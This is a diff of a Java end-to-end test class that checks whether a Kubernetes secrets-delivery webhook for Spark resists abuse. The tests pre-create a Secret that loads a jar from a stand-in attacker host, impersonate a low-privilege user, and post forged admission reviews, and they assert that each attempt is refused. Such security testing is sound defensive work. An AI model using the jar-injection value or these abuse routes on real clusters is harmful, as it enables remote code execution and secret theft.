@@ -4,18 +4,29 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
 
 import io.fabric8.kubernetes.api.model.ConfigMap;
-import io.fabric8.kubernetes.api.model.ConfigMapBuilder;
 import io.fabric8.kubernetes.api.model.HasMetadata;
 import io.fabric8.kubernetes.api.model.Pod;
-import io.fabric8.kubernetes.api.model.PodBuilder;
+import io.fabric8.kubernetes.api.model.SecretBuilder;
+import io.fabric8.kubernetes.api.model.rbac.RoleBindingBuilder;
+import io.fabric8.kubernetes.api.model.rbac.RoleBuilder;
+import io.fabric8.kubernetes.client.ConfigBuilder;
 import io.fabric8.kubernetes.client.KubernetesClient;
+import io.fabric8.kubernetes.client.KubernetesClientBuilder;
 import io.fabric8.kubernetes.client.KubernetesClientException;
+import io.fabric8.kubernetes.client.utils.Serialization;
+import io.fabric8.zjsonpatch.JsonPatch;
+import io.sparksecrets.e2e.webhook.Webhook;
+import io.sparksecrets.servers.Waiting;
 import java.net.HttpURLConnection;
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+import java.util.Base64;
 import java.util.List;
 import java.util.Map;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.TestInstance;
+import tools.jackson.databind.json.JsonMapper;
 
 /** What somebody with the right to create pods and ConfigMaps might try, by hand and not through Spark. */
 @EndToEndTest
@@ -27,11 +38,14 @@ class AbuseIT {
     private static final String ANNOTATION = "sparksecrets.io/delivery";
 
     private KubernetesClient client;
+    private Webhook webhook;
+    private Secrets secrets;
 
     @BeforeAll
     void createNamespace(Installation installation) throws Exception {
         client = installation.client();
-        new Secrets(installation.webhook()).put("ABUSE_KEY");
+        webhook = installation.webhook();
+        secrets = new Secrets(webhook).put("ABUSE_KEY").put("finance/ABUSE_KEY");
         installation.createNamespace(NAMESPACE);
     }
 
@@ -99,11 +113,151 @@ class AbuseIT {
         assertThat(secretNames()).isEqualTo(before);
     }
 
+    @Test
+    void aDeliverySecretCannotBeMadeBeforehandByWhoReadsItsNameOnThePod() {
+        Pod driver =
+                client.resource(driver("awaited", "spark-drv-awaited-conf-map")).create();
+
+        assertRefused(
+                new SecretBuilder()
+                        .withNewMetadata()
+                        .withNamespace(NAMESPACE)
+                        .withName(deliverySecret(driver))
+                        .endMetadata()
+                        .addToStringData("spark.properties", "spark.jars=https://attacker.example/x.jar\n")
+                        .build(),
+                "only Spark Secrets makes a Secret of this name");
+
+        client.resource(confMap(
+                        "spark-drv-awaited-conf-map",
+                        "awaited",
+                        driver.getMetadata().getUid()))
+                .create();
+        assertThat(secretNames()).contains(deliverySecret(driver));
+    }
+
+    @Test
+    void whoMayCreatePodsButNotReadSecretsReadsNoForbiddenSecretThroughAPodAndNoDeliverySecret() throws Exception {
+        client.resource(new RoleBuilder()
+                        .withNewMetadata()
+                        .withNamespace(NAMESPACE)
+                        .withName("creates-pods")
+                        .endMetadata()
+                        .addNewRule()
+                        .withApiGroups("")
+                        .withResources("pods", "configmaps")
+                        .withVerbs("create", "get")
+                        .endRule()
+                        .build())
+                .create();
+        client.resource(new RoleBindingBuilder()
+                        .withNewMetadata()
+                        .withNamespace(NAMESPACE)
+                        .withName("mallory")
+                        .endMetadata()
+                        .withNewRoleRef("rbac.authorization.k8s.io", "Role", "creates-pods")
+                        .addNewSubject("rbac.authorization.k8s.io", "User", "mallory", null)
+                        .build())
+                .create();
+        try (KubernetesClient mallory = new KubernetesClientBuilder()
+                .withConfig(new ConfigBuilder(client.getConfiguration())
+                        .withImpersonateUsername("mallory")
+                        .build())
+                .build()) {
+            assertThatExceptionOfType(KubernetesClientException.class)
+                    .isThrownBy(
+                            () -> mallory.resource(DriverPods.pod(NAMESPACE, "greedy", Map.of(), "finance/ABUSE_KEY"))
+                                    .create())
+                    .withMessageContaining("finance/ABUSE_KEY");
+
+            Pod allowed = mallory.resource(pod("modest", Map.of())).create();
+            Waiting.until(
+                    "the delivery Secret",
+                    Duration.ofMinutes(1),
+                    () -> secretNames().contains(deliverySecret(allowed)));
+            assertThatExceptionOfType(KubernetesClientException.class)
+                    .isThrownBy(() -> mallory.secrets()
+                            .inNamespace(NAMESPACE)
+                            .withName(deliverySecret(allowed))
+                            .get())
+                    .satisfies(refusal -> assertThat(refusal.getCode()).isEqualTo(HttpURLConnection.HTTP_FORBIDDEN));
+            assertThat(secrets.in(Serialization.asJson(allowed))).isEmpty();
+        }
+    }
+
+    @Test
+    void aReviewThatIsPostedStraightToThePortTellsNoValueAndLeavesNoSecret() throws Exception {
+        List<String> before = secretNames();
+        Pod invented = pod("invented", Map.of())
+                .edit()
+                .editMetadata()
+                .withUid("11111111-2222-3333-4444-555555555555")
+                .endMetadata()
+                .build();
+
+        String mutated = webhook.post("mutate", review(invented));
+        String patch = new String(
+                Base64.getDecoder()
+                        .decode(JsonMapper.shared()
+                                .readTree(mutated)
+                                .at("/response/patch")
+                                .asString()),
+                StandardCharsets.UTF_8);
+        Pod annotated = Serialization.unmarshal(
+                JsonPatch.apply(
+                                JsonMapper.shared().readTree(patch),
+                                JsonMapper.shared().readTree(Serialization.asJson(invented)))
+                        .toString(),
+                Pod.class);
+        String validated = webhook.post("validate", review(annotated));
+        String handwritten = webhook.post(
+                "validate",
+                review(pod(
+                        "handwritten",
+                        Map.of(ANNOTATION, "{\"secret\": \"mine\", \"request\": \"1\", \"entries\": {}}"))));
+
+        assertThat(JsonMapper.shared()
+                        .readTree(validated)
+                        .at("/response/allowed")
+                        .asBoolean())
+                .as(validated)
+                .isTrue();
+        assertThat(JsonMapper.shared()
+                        .readTree(handwritten)
+                        .at("/response/allowed")
+                        .asBoolean())
+                .as(handwritten)
+                .isFalse();
+        assertThat(secrets.in(mutated + patch + validated + handwritten)).isEmpty();
+        assertThat(secretNames())
+                .as("a pod that is not stored gets no delivery Secret")
+                .isEqualTo(before);
+    }
+
     private void assertRefused(HasMetadata object, String... inMessage) {
         assertThatExceptionOfType(KubernetesClientException.class)
                 .isThrownBy(() -> client.resource(object).create())
                 .satisfies(refusal -> assertThat(refusal.getCode()).isEqualTo(HttpURLConnection.HTTP_FORBIDDEN))
                 .satisfies(refusal -> assertThat(refusal).hasMessageContainingAll(inMessage));
+    }
+
+    /** What the API server would send for the creation of a pod. */
+    private String review(Pod pod) {
+        return """
+                {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": {
+                  "uid": "705ab4f5-6393-11e8-b7cc-42010a800002", "operation": "CREATE", "dryRun": false,
+                  "kind": {"group": "", "version": "v1", "kind": "Pod"},
+                  "resource": {"group": "", "version": "v1", "resource": "pods"},
+                  "namespace": "%s", "name": "%s", "userInfo": {"username": "mallory"}, "object": %s}}
+                """.formatted(NAMESPACE, pod.getMetadata().getName(), Serialization.asJson(pod));
+    }
+
+    /** The name that the annotation of a pod tells. */
+    private static String deliverySecret(Pod pod) {
+        return JsonMapper.shared()
+                .readTree(pod.getMetadata().getAnnotations().get(ANNOTATION))
+                .path("secret")
+                .asString();
     }
 
     private List<String> secretNames() {
@@ -113,63 +267,14 @@ class AbuseIT {
     }
 
     private static Pod pod(String name, Map<String, String> annotations) {
-        return new PodBuilder()
-                .withNewMetadata()
-                .withNamespace(NAMESPACE)
-                .withName(name)
-                .withLabels(Map.of("spark-role", "driver"))
-                .withAnnotations(annotations)
-                .endMetadata()
-                .withNewSpec()
-                .withServiceAccountName("spark")
-                .addNewContainer()
-                .withName("spark-kubernetes-driver")
-                .withImage("localhost/pause:1")
-                .withImagePullPolicy("Never")
-                .addNewEnv()
-                .withName("KEY")
-                .withValue("${secrets.ABUSE_KEY}")
-                .endEnv()
-                .endContainer()
-                .endSpec()
-                .build();
+        return DriverPods.pod(NAMESPACE, name, annotations, "ABUSE_KEY");
     }
 
-    /** A pod that looks like a driver of spark-submit and waits for its conf map. */
     private static Pod driver(String name, String confMap) {
-        return pod(name, Map.of())
-                .edit()
-                .editSpec()
-                .editFirstContainer()
-                .addNewVolumeMount()
-                .withName("spark-conf-volume-driver")
-                .withMountPath("/opt/spark/conf")
-                .endVolumeMount()
-                .endContainer()
-                .addNewVolume()
-                .withName("spark-conf-volume-driver")
-                .withNewConfigMap()
-                .withName(confMap)
-                .endConfigMap()
-                .endVolume()
-                .endSpec()
-                .build();
+        return DriverPods.driver(NAMESPACE, name, confMap, "ABUSE_KEY");
     }
 
     private static ConfigMap confMap(String name, String owner, String uid) {
-        return new ConfigMapBuilder()
-                .withNewMetadata()
-                .withNamespace(NAMESPACE)
-                .withName(name)
-                .addNewOwnerReference()
-                .withApiVersion("v1")
-                .withKind("Pod")
-                .withName(owner)
-                .withUid(uid)
-                .withController(true)
-                .endOwnerReference()
-                .endMetadata()
-                .addToData("spark.properties", "spark.hadoop.key=${secrets.ABUSE_KEY}\n")
-                .build();
+        return DriverPods.confMap(NAMESPACE, name, owner, uid, "ABUSE_KEY");
     }
 }
